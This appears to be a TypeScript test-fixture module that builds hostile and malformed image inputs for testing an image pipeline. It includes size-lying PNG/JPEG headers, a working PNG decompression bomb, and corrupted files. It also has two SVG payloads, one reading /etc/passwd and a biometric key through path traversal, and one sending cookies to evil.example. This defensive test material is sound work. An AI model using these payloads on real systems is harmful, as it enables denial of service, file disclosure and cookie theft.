import { deflateSync } from 'node:zlib'
import sharp from 'sharp'

/**
 * Hostile and awkward image inputs, generated in memory with sharp and Buffers (no binary fixtures
 * in the repository). Huge images are only headers: they stay a few bytes on disk and in memory.
 */

const asBytes = (b: Buffer | Uint8Array): Uint8Array => new Uint8Array(b)

/** A plain test scene (no face): grey background with a gradient. */
export async function scene(width = 160, height = 120): Promise<Buffer> {
  const data = Buffer.alloc(width * height * 3)
  for (let i = 0; i < width * height; i++) data.fill((i % width) & 0xff, i * 3, i * 3 + 3)
  return sharp(data, { raw: { width, height, channels: 3 } }).jpeg({ quality: 90 }).toBuffer()
}

// --- PNG built by hand (chunk layout and CRC), for headers that lie about the size ---

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})

function crc32(bytes: Buffer): number {
  let c = 0xffffffff
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length, 0)
  head.write(type, 4, 'ascii')
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0)
  return Buffer.concat([head, data, crc])
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data[8] = bitDepth
  data[9] = colourType
  return pngChunk('IHDR', data)
}

/** A PNG whose header claims width x height pixels, with a token IDAT: tiny file, huge image. */
export function hugePngHeader(width = 20_000, height = 20_000): Uint8Array {
  return asBytes(Buffer.concat([PNG_SIGNATURE, ihdr(width, height, 8, 2), pngChunk('IDAT', deflateSync(Buffer.alloc(16))), pngChunk('IEND', Buffer.alloc(0))]))
}

/**
 * A real, complete PNG decompression bomb: side x side pixels of 1-bit grey, all zero, which
 * compress to a few kilobytes but would decode to side*side*3 bytes of RGB.
 */
export function pngBomb(side = 6_400): Uint8Array {
  const row = Buffer.alloc(1 + Math.ceil(side / 8)) // filter byte + packed bits
  const raw = Buffer.alloc(row.length * side)
  return asBytes(Buffer.concat([PNG_SIGNATURE, ihdr(side, side, 1, 0), pngChunk('IDAT', deflateSync(raw, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]))
}

/** Finds the first JPEG start-of-frame marker (SOF0..SOF2) and returns the offset of its height field. */
function sofSizeOffset(jpeg: Buffer): number {
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1]! >= 0xc0 && jpeg[i + 1]! <= 0xc2) return i + 5
  }
  throw new Error('no SOF marker')
}

/** A small JPEG whose frame header claims width x height. */
export async function hugeJpegHeader(width = 20_000, height = 20_000): Promise<Uint8Array> {
  const jpeg = Buffer.from(await scene(64, 64))
  const at = sofSizeOffset(jpeg)
  jpeg.writeUInt16BE(height, at)
  jpeg.writeUInt16BE(width, at + 2)
  return asBytes(jpeg)
}

/** A JPEG whose frame header says 0 x 0. */
export async function zeroSizeJpeg(): Promise<Uint8Array> {
  return hugeJpegHeader(0, 0)
}

/** Overwrites `length` bytes at `ratio` of the file with a pattern. */
export function corrupt(bytes: Uint8Array, ratio: number, length: number, value = 0x00): Uint8Array {
  const out = Buffer.from(bytes)
  const start = Math.floor(out.length * ratio)
  out.fill(value, start, Math.min(out.length, start + length))
  return asBytes(out)
}

export function truncated(bytes: Uint8Array, keep: number): Uint8Array {
  return asBytes(Buffer.from(bytes).subarray(0, Math.floor(keep < 1 ? bytes.length * keep : keep)))
}

/** Flips bits inside the first IDAT chunk's compressed data (the PNG's CRC then fails as well). */
export function corruptPngData(png: Uint8Array): Uint8Array {
  const out = Buffer.from(png)
  const idat = out.indexOf('IDAT', 8, 'ascii')
  for (let i = idat + 6; i < Math.min(out.length - 12, idat + 40); i++) out[i] = out[i]! ^ 0x5a
  return asBytes(out)
}

/** A two-frame animated GIF (the face, then its mirror image). */
export async function animatedGif(face: Uint8Array, side = 112): Promise<Uint8Array> {
  const a = await sharp(face).resize(side, side).ensureAlpha().raw().toBuffer()
  const b = await sharp(face).resize(side, side).flop().ensureAlpha().raw().toBuffer()
  const gif = await sharp(Buffer.concat([a, b]), { raw: { width: side, height: side * 2, channels: 4, pageHeight: side } }).gif({ loop: 0 }).toBuffer()
  return asBytes(gif)
}

export const SVG_EXTERNAL_FILE = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">
  <image xlink:href="file:///etc/passwd" width="200" height="200"/>
  <image href="../../../../home/kiosk/.config/happy-house/biometric.key" width="10" height="10"/>
</svg>`

export const SVG_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
  <script>fetch('http://evil.example/?' + document.cookie)</script>
  <rect width="100" height="100" fill="#c0a080"/>
</svg>`

/** Upright photo -> pixels stored so that EXIF `orientation` turns them back upright. */
export async function exifOriented(upright: Uint8Array, orientation: 3 | 6 | 8): Promise<Uint8Array> {
  // Orientation 6 means "rotate 90° clockwise to display": store the upright image turned 90° anticlockwise.
  const storedRotation = { 3: 180, 6: 270, 8: 90 }[orientation]
  const stored = await sharp(await sharp(upright).rotate(storedRotation).toBuffer())
    .withMetadata({ orientation })
    .jpeg({ quality: 95 })
    .toBuffer()
  return asBytes(stored)
}

/** The face on a taller grey canvas, so that a missed rotation shows in the image size. */
export async function portrait(face: Uint8Array, extraBottom = 64): Promise<Uint8Array> {
  return asBytes(await sharp(face).extend({ bottom: extraBottom, background: '#808080' }).jpeg({ quality: 95 }).toBuffer())
}

export async function sixteenBitPng(face: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(face).toColourspace('rgb16').png().toBuffer())
}

export async function cmykJpeg(face: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(face).toColourspace('cmyk').jpeg({ quality: 95 }).toBuffer())
}

export async function greyscaleJpeg(face: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(face).greyscale().jpeg({ quality: 95 }).toBuffer())
}

export async function pngWithAlpha(face: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(face).ensureAlpha(0.8).png().toBuffer())
}

export async function webpOf(image: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(image).webp({ quality: 90 }).toBuffer())
}

export async function pngOf(image: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(image).png().toBuffer())
}

export async function gifOf(image: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(image).gif().toBuffer())
}

export async function tiffOf(image: Uint8Array): Promise<Uint8Array> {
  return asBytes(await sharp(image).tiff().toBuffer())
}
